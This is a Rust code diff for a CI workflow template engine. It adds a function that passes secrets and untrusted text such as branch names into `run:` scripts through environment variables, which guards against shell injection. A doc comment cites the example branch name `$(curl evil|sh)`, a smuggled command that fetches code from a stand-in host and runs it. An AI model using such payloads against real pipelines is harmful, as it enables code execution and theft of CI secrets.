@@ -2,7 +2,7 @@
 
 use std::fmt;
 
-use super::ast::Expr;
+use super::ast::{Expr, Reference};
 use super::eval::{EvalError, Scope, evaluate};
 use super::parser::{ParseError, parse};
 use super::value::Value;
@@ -115,6 +115,56 @@ impl Template {
         }
         Ok(out)
     }
+}
+
+/// A script's text, and the variables that carry the secrets it names.
+#[derive(Debug, PartialEq)]
+pub struct Script {
+    pub text: String,
+    pub env: Vec<(String, String)>,
+}
+
+impl Template {
+    /// The text of a `run:` script: each expression's value in its place, except that of an
+    /// expression reading `secrets` or text an outsider chooses (a branch name, a commit
+    /// message), which goes into an environment variable the text names as
+    /// `${BELLWETHER_SECRET_<n>}` or `${BELLWETHER_TEXT_<n>}`: so a secret is never written
+    /// into a script file, and a branch named `$(curl evil|sh)` is expanded as a value, never
+    /// run as code. `expands` says whether the shell expands such names; if not, outsiders'
+    /// text is pasted in (`validate` warns of it) and a secret is an error that says how to
+    /// pass it instead.
+    pub fn render_script(&self, scope: &Scope<'_>, expands: bool) -> Result<Script, EvalError> {
+        let mut text = String::new();
+        let mut env = Vec::new();
+        for part in &self.parts {
+            match part {
+                Part::Text(t) => text.push_str(t),
+                Part::Expr(e) if reads_secrets(e) && !expands => {
+                    return Err(EvalError(
+                        "a secret in the text of a script whose shell does not expand variables: pass it with the step's `env:` (`env: {TOKEN: ${{ secrets.TOKEN }}}`) and read it from the environment".to_owned(),
+                    ));
+                }
+                Part::Expr(e) if expands && (reads_secrets(e) || reads_untrusted(e)) => {
+                    let kind = if reads_secrets(e) { "SECRET" } else { "TEXT" };
+                    let name = format!("BELLWETHER_{kind}_{}", env.len());
+                    text.push_str(&format!("${{{name}}}"));
+                    env.push((name, evaluate(e, scope)?.to_text()));
+                }
+                Part::Expr(e) => text.push_str(&evaluate(e, scope)?.to_text()),
+            }
+        }
+        Ok(Script { text, env })
+    }
+}
+
+fn reads_untrusted(expr: &Expr) -> bool {
+    expr.references().iter().any(Reference::is_untrusted)
+}
+
+fn reads_secrets(expr: &Expr) -> bool {
+    expr.references()
+        .iter()
+        .any(|r| r.context.eq_ignore_ascii_case("secrets"))
 }
 
 /// The offset of the `}}` that closes an expression starting at `from`, skipping strings.
